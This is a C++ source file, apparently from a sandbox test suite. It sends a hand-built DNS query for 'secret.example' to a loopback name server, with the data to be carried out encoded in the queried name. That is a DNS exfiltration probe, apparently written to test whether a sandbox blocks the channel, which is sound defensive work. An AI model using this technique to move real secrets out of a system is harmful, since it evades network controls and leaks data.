// SPDX-License-Identifier: Apache-2.0
// A question to a name server, with what is to be carried out in the name.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#include "sandbox_attack.h"

namespace attack {

long dns(const Target& target) {
  const long fd = call(SYS_socket, AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) return fd;
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(target.port);
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  constexpr char kQuestion[] = "\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1";
  return call(SYS_sendto, fd, kQuestion, sizeof kQuestion, 0, &to, sizeof to);
}

}  // namespace attack
